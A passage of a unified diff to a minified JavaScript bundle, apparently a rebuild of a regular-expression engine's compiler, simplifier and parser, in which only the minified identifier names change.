 e,e===this.start&&(n+="*"),n+="        ".substring(n.length-t),n+=this.inst[e],n+=`
-`}return n}};const ZS=new Int32Array([0,ce.CODES[`
+`}return n}};const rT=new Int32Array([0,ce.CODES[`
 `]-1,ce.CODES[`
-`]+1,$e.MAX_RUNE]),Wp=new Int32Array([0,$e.MAX_RUNE]);var yo=class{constructor(n=0,e=new mn,t=!1){this.i=n,this.out=e,this.
-nullable=t}},Kp=class du{static compileRegexp(e){const t=new du,s=t.compile(e);return t.prog.patch(s.out,t.newInst(ee.MATCH).
-i),t.prog.start=s.i,t.prog.markLookbehindInsts(),t.prog}static compileSet(e){const t=new du;if(e.length===0)return t.prog.
+`]+1,$e.MAX_RUNE]),Qp=new Int32Array([0,$e.MAX_RUNE]);var wo=class{constructor(n=0,e=new mn,t=!1){this.i=n,this.out=e,this.
+nullable=t}},Xp=class Bu{static compileRegexp(e){const t=new Bu,s=t.compile(e);return t.prog.patch(s.out,t.newInst(ee.MATCH).
+i),t.prog.start=s.i,t.prog.markLookbehindInsts(),t.prog}static compileSet(e){const t=new Bu;if(e.length===0)return t.prog.
 start=t.newInst(ee.FAIL).i,t.prog.markLookbehindInsts(),t.prog;let s=[];for(let i=0;i<e.length;i++){t.lbOffset=t.prog.numLb;
 const o=t.compile(e[i]),c=t.newInst(ee.MATCH);t.prog.getInst(c.i).arg=i,t.prog.patch(o.out,c.i),s.push(o.i)}let r=s[0];for(let i=1;i<
 s.length;i++){const o=t.newInst(ee.ALT),c=t.prog.getInst(o.i);c.out=r,c.arg=s[i],r=o.i}return t.prog.start=r,t.prog.markLookbehindInsts(),
-t.prog}constructor(){this.prog=new JS,this.newInst(ee.FAIL),this.lbOffset=0,this.runeCache=new Map,this.walker={leaf:e=>this.
+t.prog}constructor(){this.prog=new sT,this.newInst(ee.FAIL),this.lbOffset=0,this.runeCache=new Map,this.walker={leaf:e=>this.
 leaf(e),enter:e=>this.enter(e),child:(e,t,s)=>this.child(e,t,s),leave:(e,t)=>this.leave(e,t)}}newInst(e){return this.prog.
-addInst(e),new yo(this.prog.numInst()-1,new mn,!0)}nop(){const e=this.newInst(ee.NOP);return e.out=new mn(e.i<<1,e.i<<1),
-e}fail(){return new yo}cap(e){const t=this.newInst(ee.CAPTURE);return t.out=new mn(t.i<<1,t.i<<1),this.prog.getInst(t.i).
+addInst(e),new wo(this.prog.numInst()-1,new mn,!0)}nop(){const e=this.newInst(ee.NOP);return e.out=new mn(e.i<<1,e.i<<1),
+e}fail(){return new wo}cap(e){const t=this.newInst(ee.CAPTURE);return t.out=new mn(t.i<<1,t.i<<1),this.prog.getInst(t.i).
 arg=e,this.prog.numCap<e+1&&(this.prog.numCap=e+1),t}cat(e,t){return e.i===0||t.i===0?(this.prog.patch(e.out,0),this.prog.
-patch(t.out,0),this.fail()):(this.prog.patch(e.out,t.i),new yo(e.i,t.out,e.nullable&&t.nullable))}alt(e,t){if(e.i===0)return t;
+patch(t.out,0),this.fail()):(this.prog.patch(e.out,t.i),new wo(e.i,t.out,e.nullable&&t.nullable))}alt(e,t){if(e.i===0)return t;
 if(t.i===0)return e;const s=this.newInst(ee.ALT),r=this.prog.getInst(s.i);return r.out=e.i,r.arg=t.i,s.out=this.prog.append(
 e.out,t.out),s.nullable=e.nullable||t.nullable,s}loop(e,t){const s=this.newInst(ee.ALT),r=this.prog.getInst(s.i);return t?
 (r.arg=e.i,s.out=new mn(s.i<<1,s.i<<1)):(r.out=e.i,s.out=new mn(s.i<<1|1,s.i<<1|1)),this.prog.patch(e.out,s.i),s}quest(e,t){
 if(e.i===0)return this.nop();const s=this.newInst(ee.ALT),r=this.prog.getInst(s.i);return t?(r.arg=e.i,s.out=new mn(s.i<<
 1,s.i<<1)):(r.out=e.i,s.out=new mn(s.i<<1|1,s.i<<1|1)),s.out=this.prog.append(s.out,e.out),s}star(e,t){return e.i===0?this.
-nop():e.nullable?this.quest(this.plus(e,t),t):this.loop(e,t)}plus(e,t){return e.i===0?this.fail():new yo(e.i,this.loop(e,
+nop():e.nullable?this.quest(this.plus(e,t),t):this.loop(e,t)}plus(e,t){return e.i===0?this.fail():new wo(e.i,this.loop(e,
 t).out,e.nullable)}empty(e){const t=this.newInst(ee.EMPTY_WIDTH);return this.prog.getInst(t.i).arg=e,t.out=new mn(t.i<<1,
 t.i<<1),t}rune(e,t){const s=this.newInst(ee.RUNE);s.nullable=!1;const r=this.prog.getInst(s.i);return r.runes=e,t&=oe.FOLD_CASE,
 (e.length!==1||$e.simpleFold(e[0])===e[0])&&(t&=~oe.FOLD_CASE),r.arg=t,s.out=new mn(s.i<<1,s.i<<1),(t&oe.FOLD_CASE)===0&&
@@ -6614,13 +6638,13 @@ e.length===1||e.length===2&&e[0]===e[1]?r.op=ee.RUNE1:e.length===2&&e[0]===0&&e[
 4&&e[0]===0&&e[1]===ce.CODES[`
 `]-1&&e[2]===ce.CODES[`
 `]+1&&e[3]===$e.MAX_RUNE&&(r.op=ee.RUNE_ANY_NOT_NL),s}lookBehind(e,t){const s=Math.sign(t)*(Math.abs(t)+this.lbOffset),r=this.
-newInst(ee.LB_WRITE);this.prog.getInst(r.i).arg=s;const i=this.rune(Wp,0),o=this.star(i,!0),c=this.cat(o,e);this.prog.patch(
+newInst(ee.LB_WRITE);this.prog.getInst(r.i).arg=s;const i=this.rune(Qp,0),o=this.star(i,!0),c=this.cat(o,e);this.prog.patch(
 c.out,r.i);const l=this.newInst(ee.LB_CHECK);return this.prog.getInst(l.i).arg=s,this.prog.lbStarts.push(c.i),Math.abs(s)>
-this.prog.numLb&&(this.prog.numLb=Math.abs(s)),l.out=new mn(l.i<<1,l.i<<1),l}compile(e){return Kc.walk(e,this.walker)}leaf(e){
+this.prog.numLb&&(this.prog.numLb=Math.abs(s)),l.out=new mn(l.i<<1,l.i<<1),l}compile(e){return qc.walk(e,this.walker)}leaf(e){
 switch(e.op){case M.Op.NO_MATCH:return this.fail();case M.Op.EMPTY_MATCH:return this.nop();case M.Op.LITERAL:{if(e.runes.
 length===0)return this.nop();let t=null;for(let s of e.runes){let r=this.runeCache.get(s);r===void 0&&(r=new Int32Array(
 [s]),this.runeCache.set(s,r));const i=this.rune(r,e.flags);t=t===null?i:this.cat(t,i)}return t}case M.Op.CHAR_CLASS:return this.
-rune(e.runes,e.flags);case M.Op.ANY_CHAR_NOT_NL:return this.rune(ZS,0);case M.Op.ANY_CHAR:return this.rune(Wp,0);case M.
+rune(e.runes,e.flags);case M.Op.ANY_CHAR_NOT_NL:return this.rune(rT,0);case M.Op.ANY_CHAR:return this.rune(Qp,0);case M.
 Op.BEGIN_LINE:return this.empty(xe.EMPTY_BEGIN_LINE);case M.Op.END_LINE:return this.empty(xe.EMPTY_END_LINE);case M.Op.BEGIN_TEXT:
 return this.empty(xe.EMPTY_BEGIN_TEXT);case M.Op.END_TEXT:return this.empty(xe.EMPTY_END_TEXT);case M.Op.WORD_BOUNDARY:return this.
 empty(xe.EMPTY_WORD_BOUNDARY);case M.Op.NO_WORD_BOUNDARY:return this.empty(xe.EMPTY_NO_WORD_BOUNDARY);case M.Op.CONCAT:case M.
@@ -6632,8 +6656,8 @@ t.f,s):t.sub=s}leave(e,t){switch(e.op){case M.Op.PLB:case M.Op.NLB:return this.l
 const s=this.cap(e.cap<<1|1);return this.cat(this.cat(t.bra,t.sub),s)}case M.Op.STAR:return this.star(t.sub,(e.flags&oe.
 NON_GREEDY)!==0);case M.Op.PLUS:return this.plus(t.sub,(e.flags&oe.NON_GREEDY)!==0);case M.Op.QUEST:return this.quest(t.
 sub,(e.flags&oe.NON_GREEDY)!==0);case M.Op.CONCAT:case M.Op.ALTERNATE:return t.f;default:throw new zr("regexp: unhandled\
- case in compile")}}},qp=class qt{static simplify(e){return e===null?null:Kc.walk(e,qt.WALKER)}static WALKER={leaf:e=>qt.
-leaf(e),enter:e=>qt.enter(e),child:(e,t,s,r)=>qt.child(e,t,s,r),leave:(e,t)=>qt.leave(e,t)};static leaf(e){if(e.op===M.Op.
+ case in compile")}}},em=class Yt{static simplify(e){return e===null?null:qc.walk(e,Yt.WALKER)}static WALKER={leaf:e=>Yt.
+leaf(e),enter:e=>Yt.enter(e),child:(e,t,s,r)=>Yt.child(e,t,s,r),leave:(e,t)=>Yt.leave(e,t)};static leaf(e){if(e.op===M.Op.
 CHAR_CLASS){if(e.runes===null)return e;if(e.runes.length===0)return new M(M.Op.NO_MATCH);if(e.runes.length===2&&e.runes[0]===
 0&&e.runes[1]===$e.MAX_RUNE)return new M(M.Op.ANY_CHAR);if(e.runes.length===4&&e.runes[0]===0&&e.runes[1]===ce.CODES[`
 `]-1&&e.runes[2]===ce.CODES[`
@@ -6648,35 +6672,35 @@ t.subs.push(s)}static leave(e,t){switch(e.op){case M.Op.PLB:case M.Op.NLB:case M
 const r=M.fromRegexp(e);return r.runes=new Int32Array(0),r.subs=[s],r}return e}case M.Op.CONCAT:case M.Op.ALTERNATE:if(t.
 changed){const s=t.subs;if(s.length===0)return new M(e.op===M.Op.CONCAT?M.Op.EMPTY_MATCH:M.Op.NO_MATCH);if(s.length===1)
 return s[0];const r=M.fromRegexp(e);return r.runes=new Int32Array(0),r.subs=s,r}return e;case M.Op.STAR:case M.Op.PLUS:case M.
-Op.QUEST:return qt.simplify1(e.op,e.flags,t.sub,e);case M.Op.REPEAT:return qt.simplifyRepeat(e,t.sub);default:return e}}static simplifyRepeat(e,t){
-if(e.max===-1){if(e.min===0)return qt.simplify1(M.Op.STAR,e.flags,t,null);if(e.min===1)return qt.simplify1(M.Op.PLUS,e.flags,
-t,null);const r=[];for(let i=0;i<e.min-1;i++)r.push(t);return r.push(qt.simplify1(M.Op.PLUS,e.flags,t,null)),qt.concat(r)}
-if(e.min===1&&e.max===1)return t;let s=null;if(e.min>0){s=[];for(let r=0;r<e.min;r++)s.push(t)}if(e.max>e.min){let r=qt.
-simplify1(M.Op.QUEST,e.flags,t,null);for(let i=e.min+1;i<e.max;i++)r=qt.simplify1(M.Op.QUEST,e.flags,qt.concat([t,r]),null);
-if(s===null)return r;s.push(r)}return s!==null?qt.concat(s):new M(M.Op.NO_MATCH)}static concat(e){const t=[];for(let r=0;r<
+Op.QUEST:return Yt.simplify1(e.op,e.flags,t.sub,e);case M.Op.REPEAT:return Yt.simplifyRepeat(e,t.sub);default:return e}}static simplifyRepeat(e,t){
+if(e.max===-1){if(e.min===0)return Yt.simplify1(M.Op.STAR,e.flags,t,null);if(e.min===1)return Yt.simplify1(M.Op.PLUS,e.flags,
+t,null);const r=[];for(let i=0;i<e.min-1;i++)r.push(t);return r.push(Yt.simplify1(M.Op.PLUS,e.flags,t,null)),Yt.concat(r)}
+if(e.min===1&&e.max===1)return t;let s=null;if(e.min>0){s=[];for(let r=0;r<e.min;r++)s.push(t)}if(e.max>e.min){let r=Yt.
+simplify1(M.Op.QUEST,e.flags,t,null);for(let i=e.min+1;i<e.max;i++)r=Yt.simplify1(M.Op.QUEST,e.flags,Yt.concat([t,r]),null);
+if(s===null)return r;s.push(r)}return s!==null?Yt.concat(s):new M(M.Op.NO_MATCH)}static concat(e){const t=[];for(let r=0;r<
 e.length;r++){const i=e[r];if(i.op===M.Op.NO_MATCH)return new M(M.Op.NO_MATCH);if(i.op!==M.Op.EMPTY_MATCH){if(i.op===M.Op.
 CONCAT){for(let o=0;o<i.subs.length;o++)t.push(i.subs[o]);continue}t.push(i)}}if(t.length===0)return new M(M.Op.EMPTY_MATCH);
 if(t.length===1)return t[0];const s=new M(M.Op.CONCAT);return s.subs=t,s}static simplify1(e,t,s,r){if(s.op===M.Op.EMPTY_MATCH)
 return s;if(s.op===M.Op.NO_MATCH)return e===M.Op.PLUS?s:new M(M.Op.EMPTY_MATCH);if(e===s.op&&(t&oe.NON_GREEDY)===(s.flags&
 oe.NON_GREEDY))return s;if(r!==null&&r.op===e&&(r.flags&oe.NON_GREEDY)===(t&oe.NON_GREEDY)&&s===r.subs[0])return r;const i=new M(
-e);return i.flags=t,i.subs=[s],i}},mt=class{constructor(n,e){this.sign=n,this.cls=e}};const Yp=[48,57],Vp=[9,10,12,13,32,
-32],Qp=[48,57,65,90,95,95,97,122],Xp=new Map([["\\d",new mt(1,Yp)],["\\D",new mt(-1,Yp)],["\\s",new mt(1,Vp)],["\\S",new mt(
--1,Vp)],["\\w",new mt(1,Qp)],["\\W",new mt(-1,Qp)]]),em=[48,57,65,90,97,122],tm=[65,90,97,122],nm=[0,127],sm=[9,9,32,32],
-rm=[0,31,127,127],im=[48,57],om=[33,126],am=[97,122],cm=[32,126],um=[33,47,58,64,91,96,123,126],lm=[9,13,32,32],dm=[65,90],
-Bm=[48,57,65,90,95,95,97,122],fm=[48,57,65,70,97,102],hm=new Map([["[:alnum:]",new mt(1,em)],["[:^alnum:]",new mt(-1,em)],
-["[:alpha:]",new mt(1,tm)],["[:^alpha:]",new mt(-1,tm)],["[:ascii:]",new mt(1,nm)],["[:^ascii:]",new mt(-1,nm)],["[:blan\
-k:]",new mt(1,sm)],["[:^blank:]",new mt(-1,sm)],["[:cntrl:]",new mt(1,rm)],["[:^cntrl:]",new mt(-1,rm)],["[:digit:]",new mt(
-1,im)],["[:^digit:]",new mt(-1,im)],["[:graph:]",new mt(1,om)],["[:^graph:]",new mt(-1,om)],["[:lower:]",new mt(1,am)],[
-"[:^lower:]",new mt(-1,am)],["[:print:]",new mt(1,cm)],["[:^print:]",new mt(-1,cm)],["[:punct:]",new mt(1,um)],["[:^punc\
-t:]",new mt(-1,um)],["[:space:]",new mt(1,lm)],["[:^space:]",new mt(-1,lm)],["[:upper:]",new mt(1,dm)],["[:^upper:]",new mt(
--1,dm)],["[:word:]",new mt(1,Bm)],["[:^word:]",new mt(-1,Bm)],["[:xdigit:]",new mt(1,fm)],["[:^xdigit:]",new mt(-1,fm)]]);
-var Os=class Ao{static charClassToString(e,t){let s="[";for(let r=0;r<t;r+=2){r>0&&(s+=" ");const i=e[r],o=e[r+1];i===o?
+e);return i.flags=t,i.subs=[s],i}},mt=class{constructor(n,e){this.sign=n,this.cls=e}};const tm=[48,57],nm=[9,10,12,13,32,
+32],sm=[48,57,65,90,95,95,97,122],rm=new Map([["\\d",new mt(1,tm)],["\\D",new mt(-1,tm)],["\\s",new mt(1,nm)],["\\S",new mt(
+-1,nm)],["\\w",new mt(1,sm)],["\\W",new mt(-1,sm)]]),im=[48,57,65,90,97,122],om=[65,90,97,122],am=[0,127],cm=[9,9,32,32],
+um=[0,31,127,127],lm=[48,57],dm=[33,126],Bm=[97,122],fm=[32,126],hm=[33,47,58,64,91,96,123,126],pm=[9,13,32,32],mm=[65,90],
+gm=[48,57,65,90,95,95,97,122],Cm=[48,57,65,70,97,102],ym=new Map([["[:alnum:]",new mt(1,im)],["[:^alnum:]",new mt(-1,im)],
+["[:alpha:]",new mt(1,om)],["[:^alpha:]",new mt(-1,om)],["[:ascii:]",new mt(1,am)],["[:^ascii:]",new mt(-1,am)],["[:blan\
+k:]",new mt(1,cm)],["[:^blank:]",new mt(-1,cm)],["[:cntrl:]",new mt(1,um)],["[:^cntrl:]",new mt(-1,um)],["[:digit:]",new mt(
+1,lm)],["[:^digit:]",new mt(-1,lm)],["[:graph:]",new mt(1,dm)],["[:^graph:]",new mt(-1,dm)],["[:lower:]",new mt(1,Bm)],[
+"[:^lower:]",new mt(-1,Bm)],["[:print:]",new mt(1,fm)],["[:^print:]",new mt(-1,fm)],["[:punct:]",new mt(1,hm)],["[:^punc\
+t:]",new mt(-1,hm)],["[:space:]",new mt(1,pm)],["[:^space:]",new mt(-1,pm)],["[:upper:]",new mt(1,mm)],["[:^upper:]",new mt(
+-1,mm)],["[:word:]",new mt(1,gm)],["[:^word:]",new mt(-1,gm)],["[:xdigit:]",new mt(1,Cm)],["[:^xdigit:]",new mt(-1,Cm)]]);
+var As=class So{static charClassToString(e,t){let s="[";for(let r=0;r<t;r+=2){r>0&&(s+=" ");const i=e[r],o=e[r+1];i===o?
 s+=`0x${i.toString(16)}`:s+=`0x${i.toString(16)}-0x${o.toString(16)}`}return s+="]",s}static sortRanges(e,t){const s=t>>
 1,r=new Array(s);for(let o=0;o<s;o++)r[o]=o;r.sort((o,c)=>e[2*o]-e[2*c]||e[2*c+1]-e[2*o+1]);const i=e.slice(0,t);for(let o=0;o<
 s;o++)e[2*o]=i[2*r[o]],e[2*o+1]=i[2*r[o]+1]}constructor(e=xe.emptyInts()){this.r=e,this.len=e.length}toArray(){return this.
 r instanceof Int32Array?this.len===this.r.length?this.r:this.r.subarray(0,this.len):new Int32Array(this.len===this.r.length?
 this.r:this.r.slice(0,this.len))}toGrowableArray(){return Array.isArray(this.r)?(this.r.length=this.len,this.r):Array.from(
-this.r.subarray(0,this.len))}cleanClass(){if(this.len<4)return this;Ao.sortRanges(this.r,this.len);let e=2;for(let t=2;t<
+this.r.subarray(0,this.len))}cleanClass(){if(this.len<4)return this;So.sortRanges(this.r,this.len);let e=2;for(let t=2;t<
 this.len;t+=2){const s=this.r[t],r=this.r[t+1];if(s<=this.r[e-1]+1){r>this.r[e-1]&&(this.r[e-1]=r);continue}this.r[e]=s,
 this.r[e+1]=r,e+=2}return this.len=e,this}appendLiteral(e,t){return(t&oe.FOLD_CASE)!==0?this.appendFoldedRange(e,e):this.
 appendRange(e,e)}appendRange(e,t){if(this.len>0){for(let s=2;s<=4;s+=2)if(this.len>=s){const r=this.r[this.len-s],i=this.
@@ -6694,9 +6718,9 @@ if(o===1){t<=r-1&&this.appendRange(t,r-1),t=i+1;continue}for(let c=r;c<=i;c+=o)t
 $e.MAX_RUNE&&this.appendRange(t,$e.MAX_RUNE),this}appendTableWithSign(e,t){return t<0?this.appendNegatedTable(e):this.appendTable(
 e)}negateClass(){let e=0,t=0;for(let s=0;s<this.len;s+=2){const r=this.r[s],i=this.r[s+1];e<=r-1&&(this.r[t]=e,this.r[t+
 1]=r-1,t+=2),e=i+1}return this.len=t,e<=$e.MAX_RUNE&&(this.r[this.len++]=e,this.r[this.len++]=$e.MAX_RUNE),this}appendClassWithSign(e,t){
-return t<0?this.appendNegatedClass(e):this.appendClass(e)}appendGroup(e,t){let s=e.cls;return t&&(s=new Ao().appendFoldedClass(
-s).cleanClass().toArray()),this.appendClassWithSign(s,e.sign)}toString(){return Ao.charClassToString(this.r,this.len)}},
-WS=class{constructor(n){this.str=n,this.position=0}pos(){return this.position}rewindTo(n){this.position=n}more(){return this.
+return t<0?this.appendNegatedClass(e):this.appendClass(e)}appendGroup(e,t){let s=e.cls;return t&&(s=new So().appendFoldedClass(
+s).cleanClass().toArray()),this.appendClassWithSign(s,e.sign)}toString(){return So.charClassToString(this.r,this.len)}},
+iT=class{constructor(n){this.str=n,this.position=0}pos(){return this.position}rewindTo(n){this.position=n}more(){return this.
 position<this.str.length}peek(){return this.str.codePointAt(this.position)}skip(n){this.position+=n}skipString(n){this.position+=
 n.length}pop(){const n=this.str.codePointAt(this.position);return this.position+=xe.charCount(n),n}lookingAt(n){return this.
 str.startsWith(n,this.position)}rest(){return this.str.substring(this.position)}from(n){return this.str.substring(n,this.
@@ -6729,9 +6753,9 @@ e.op===M.Op.ANY_CHAR_NOT_NL||e.op===M.Op.ANY_CHAR}static matchRune(e,t){switch(e
 Op.ANY_CHAR_NOT_NL:return t!==ce.CODES[`
 `];case M.Op.ANY_CHAR:return!0}return!1}static mergeCharClass(e,t){switch(e.op){case M.Op.ANY_CHAR:break;case M.Op.ANY_CHAR_NOT_NL:
 Je.matchRune(t,ce.CODES[`
-`])&&(e.op=M.Op.ANY_CHAR);break;case M.Op.CHAR_CLASS:{const s=new Os(Array.isArray(e.runes)?e.runes:Array.from(e.runes));
+`])&&(e.op=M.Op.ANY_CHAR);break;case M.Op.CHAR_CLASS:{const s=new As(Array.isArray(e.runes)?e.runes:Array.from(e.runes));
 t.op===M.Op.LITERAL?s.appendLiteral(t.runes[0],t.flags):s.appendClass(t.runes),e.runes=s.toGrowableArray();break}case M.
-Op.LITERAL:if(t.runes[0]===e.runes[0]&&t.flags===e.flags)break;e.op=M.Op.CHAR_CLASS,e.runes=new Os().appendLiteral(e.runes[0],
+Op.LITERAL:if(t.runes[0]===e.runes[0]&&t.flags===e.flags)break;e.op=M.Op.CHAR_CLASS,e.runes=new As().appendLiteral(e.runes[0],
 e.flags).appendLiteral(t.runes[0],t.flags).toGrowableArray()}}static parseEscape(e){const t=e.pos();if(e.skip(1),!e.more())
 throw new Dt(Je.ERR_TRAILING_BACKSLASH);let s=e.pop();e:switch(s){case ce.CODES[1]:case ce.CODES[2]:case ce.CODES[3]:case ce.
 CODES[4]:case ce.CODES[5]:case ce.CODES[6]:case ce.CODES[7]:if(!e.more()||e.peek()<ce.CODES[0]||e.peek()>ce.CODES[7])break;case ce.
@@ -6782,7 +6806,7 @@ i.from(r))}repeatIsValid(e,t){if(e.op===M.Op.REPEAT){let s=e.max;if(s===0)return
 Math.trunc(t/s))}for(let s of e.subs)if(!this.repeatIsValid(s,t))return!1;return!0}concat(){this.maybeConcat(-1,0);const e=this.
 popToPseudo();return e.length===0?this.push(this.newRegexp(M.Op.EMPTY_MATCH)):this.push(this.collapse(e,M.Op.CONCAT))}alternate(){
 const e=this.popToPseudo();return e.length>0&&this.cleanAlt(e[e.length-1]),e.length===0?this.push(this.newRegexp(M.Op.NO_MATCH)):
-this.push(this.collapse(e,M.Op.ALTERNATE))}cleanAlt(e){e.op===M.Op.CHAR_CLASS&&(e.runes=new Os(Array.from(e.runes)).cleanClass().
+this.push(this.collapse(e,M.Op.ALTERNATE))}cleanAlt(e){e.op===M.Op.CHAR_CLASS&&(e.runes=new As(Array.from(e.runes)).cleanClass().
 toArray(),e.runes.length===2&&e.runes[0]===0&&e.runes[1]===$e.MAX_RUNE?(e.runes=new Int32Array(0),e.op=M.Op.ANY_CHAR):e.
 runes.length===4&&e.runes[0]===0&&e.runes[1]===ce.CODES[`
 `]-1&&e.runes[2]===ce.CODES[`
@@ -6811,7 +6835,7 @@ length),e.runes.length===0&&(e.op=M.Op.EMPTY_MATCH)),e}removeLeadingRegexp(e,t){
 switch(t&&this.reuse(e.subs[0]),e.subs=e.subs.slice(1,e.subs.length),e.subs.length){case 0:e.op=M.Op.EMPTY_MATCH,e.subs=
 M.emptySubs();break;case 1:{const s=e;e=e.subs[0],this.reuse(s);break}}return e}return t&&this.reuse(e),this.newRegexp(M.
 Op.EMPTY_MATCH)}parseInternal(){if((this.flags&oe.LITERAL)!==0)return Je.literalRegexp(this.wholeRegexp,this.flags);let e=-1,
-t=-1,s=-1;const r=new WS(this.wholeRegexp);for(;r.more();){let i=-1;e:switch(r.peek()){case ce.CODES["("]:if((this.flags&
+t=-1,s=-1;const r=new iT(this.wholeRegexp);for(;r.more();){let i=-1;e:switch(r.peek()){case ce.CODES["("]:if((this.flags&
 oe.LOOKBEHIND)!==0){if(r.lookingAt("(?<=")){this.parsePosLookBehind(),r.skip(4);break}if(r.lookingAt("(?<!")){this.parseNegLookBehind(),
 r.skip(4);break}}if((this.flags&oe.PERL_X)!==0&&r.lookingAt("(?")){this.parsePerlFlags(r);break}this.op(M.Op.LEFT_PAREN).
 cap=++this.numCap,r.skip(1);break;case ce.CODES["|"]:this.parseVerticalBar(),r.skip(1);break;case ce.CODES[")"]:this.parseRightParen(),
@@ -6827,8 +6851,8 @@ break e;case ce.CODES.b:this.op(M.Op.WORD_BOUNDARY);break e;case ce.CODES.B:this
 CODES.C:throw new Dt(Je.ERR_INVALID_ESCAPE,"\\C");case ce.CODES.Q:{let B=r.rest();const d=B.indexOf("\\E");d>=0?(B=B.substring(
 0,d),r.skipString(B),r.skipString("\\E")):r.skipString(B);let h=0;for(;h<B.length;){const g=B.codePointAt(h);this.literal(
 g),h+=xe.charCount(g)}break e}case ce.CODES.z:this.op(M.Op.END_TEXT);break e;default:r.rewindTo(o)}else r.rewindTo(o);const c=this.
-newRegexp(M.Op.CHAR_CLASS);if(c.flags=this.flags,r.lookingAt("\\p")||r.lookingAt("\\P")){const B=new Os;if(this.parseUnicodeClass(
-r,B)){c.runes=B.toArray(),this.push(c);break e}}const l=new Os;if(this.parsePerlClassEscape(r,l)){c.runes=l.toArray(),this.
+newRegexp(M.Op.CHAR_CLASS);if(c.flags=this.flags,r.lookingAt("\\p")||r.lookingAt("\\P")){const B=new As;if(this.parseUnicodeClass(
+r,B)){c.runes=B.toArray(),this.push(c);break e}}const l=new As;if(this.parsePerlClassEscape(r,l)){c.runes=l.toArray(),this.
 push(c);break e}r.rewindTo(o),this.reuse(c),this.literal(Je.parseEscape(r));break}default:this.literal(r.pop())}e=i}if(this.
 concat(),this.swapVerticalBar()&&this.pop(),this.alternate(),this.stack.length!==1)throw new Dt(Je.ERR_MISSING_PAREN,this.
 wholeRegexp);return this.stack[0].namedGroups=this.namedGroups,this.stack[0]}parsePerlFlags(e){const t=e.pos(),s=e.rest();
@@ -6851,18 +6875,18 @@ const e=this.pop(),t=this.pop();if(t.op!==M.Op.LEFT_PAREN)throw new Dt(Je.ERR_UN
 flags=t.flags,t.lb!==0){if(Je.hasCapture(e))throw new Dt(Je.ERR_INVALID_CAPTURE_IN_LOOKBEHIND,this.wholeRegexp);t.lb>0?t.
 op=M.Op.PLB:t.op=M.Op.NLB,t.subs=[e],this.push(t);return}t.cap===0?this.push(e):(t.op=M.Op.CAPTURE,t.subs=[e],this.push(
 t))}parsePerlClassEscape(e,t){const s=e.pos();if((this.flags&oe.PERL_X)===0||!e.more()||e.pop()!==ce.CODES["\\"]||!e.more())
-return!1;e.pop();const r=e.from(s),i=Xp.has(r)?Xp.get(r):null;return i===null?!1:(t.appendGroup(i,(this.flags&oe.FOLD_CASE)!==
+return!1;e.pop();const r=e.from(s),i=rm.has(r)?rm.get(r):null;return i===null?!1:(t.appendGroup(i,(this.flags&oe.FOLD_CASE)!==
 0),!0)}parseNamedClass(e,t){const s=e.rest(),r=s.indexOf(":]");if(r<0)return!1;const i=s.substring(0,r+2);e.skipString(i);
-const o=hm.has(i)?hm.get(i):null;if(o===null)throw new Dt(Je.ERR_INVALID_CHAR_RANGE,i);return t.appendGroup(o,(this.flags&
+const o=ym.has(i)?ym.get(i):null;if(o===null)throw new Dt(Je.ERR_INVALID_CHAR_RANGE,i);return t.appendGroup(o,(this.flags&
 oe.FOLD_CASE)!==0),!0}parseUnicodeClass(e,t){const s=e.pos();if((this.flags&oe.UNICODE_GROUPS)===0||!e.lookingAt("\\p")&&
 !e.lookingAt("\\P"))return!1;e.skip(1);let r=1,i=e.pop();if(i===ce.CODES.P&&(r=-1),!e.more())throw e.rewindTo(s),new Dt(
 Je.ERR_INVALID_CHAR_RANGE,e.rest());i=e.pop();let o;if(i!==ce.CODES["{"])o=xe.runeToString(i);else{const d=e.rest(),h=d.
 indexOf("}");if(h<0)throw e.rewindTo(s),new Dt(Je.ERR_INVALID_CHAR_RANGE,e.rest());o=d.substring(0,h),e.skipString(o),e.
 skip(1)}o.length!==0&&o.codePointAt(0)===ce.CODES["^"]&&(r=0-r,o=o.substring(1));const c=Je.unicodeTable(o);if(c===null)
 throw new Dt(Je.ERR_INVALID_CHAR_RANGE,e.from(s));c.sign<0&&(r=0-r);const l=c.tab,B=c.fold;if((this.flags&oe.FOLD_CASE)===
-0||B===null)t.appendTableWithSign(l,r);else{const d=new Os().appendTable(l).appendTable(B).cleanClass().toArray();t.appendClassWithSign(
+0||B===null)t.appendTableWithSign(l,r);else{const d=new As().appendTable(l).appendTable(B).cleanClass().toArray();t.appendClassWithSign(
 Array.from(d),r)}return!0}parseClass(e){const t=e.pos();e.skip(1);const s=this.newRegexp(M.Op.CHAR_CLASS);s.flags=this.flags;
-const r=new Os;let i=1;e.more()&&e.lookingAt("^")&&(i=-1,e.skip(1),(this.flags&oe.CLASS_NL)===0&&r.appendRange(ce.CODES[`\
+const r=new As;let i=1;e.more()&&e.lookingAt("^")&&(i=-1,e.skip(1),(this.flags&oe.CLASS_NL)===0&&r.appendRange(ce.CODES[`\
 
 `],ce.CODES[`
 `]));let o=!0;for(;!e.more()||e.peek()!==ce.CODES["]"]||o;){if(e.more()&&e.lookingAt("-")&&(this.flags&oe.PERL_X)===0&&!o){
@@ -6871,30 +6895,30 @@ pos();if(e.lookingAt("[:")){if(this.parseNamedClass(e,r))continue;e.rewindTo(c)}
 e,r))continue;e.rewindTo(c);const l=Je.parseClassChar(e,t);let B=l;if(e.more()&&e.lookingAt("-")){if(e.skip(1),e.more()&&
 e.lookingAt("]"))e.skip(-1);else if(B=Je.parseClassChar(e,t),B<l)throw new Dt(Je.ERR_INVALID_CHAR_RANGE,e.from(c))}(this.
 flags&oe.FOLD_CASE)===0?r.appendRange(l,B):r.appendFoldedRange(l,B)}e.skip(1),r.cleanClass(),i<0&&r.negateClass(),s.runes=
-r.toArray(),this.push(s)}},KS=class Ts{static initTest(e){const t=Ts.compile(e),s=new Ts(t.expr,t.prog,t.numSubexp,t.longest);
+r.toArray(),this.push(s)}},oT=class Is{static initTest(e){const t=Is.compile(e),s=new Is(t.expr,t.prog,t.numSubexp,t.longest);
 return s.cond=t.cond,s.prefix=t.prefix,s.prefixUTF8=t.prefixUTF8,s.prefixComplete=t.prefixComplete,s.prefixRune=t.prefixRune,
-s.prefilter=t.prefilter,s.namedGroups=t.namedGroups,s}static compile(e){return Ts.compileImpl(e,oe.PERL,!1)}static compilePOSIX(e){
-return Ts.compileImpl(e,oe.POSIX,!0)}static compileImpl(e,t,s){let r=Jr.parse(e,t);const i=r.maxCap(),o=r.namedGroups;r=
-qp.simplify(r);const c=US.build(r),l=Kp.compileRegexp(r),B=new Ts(e,l,i,s);B.prefilter=c.type===st.Type.NONE?null:c;const[
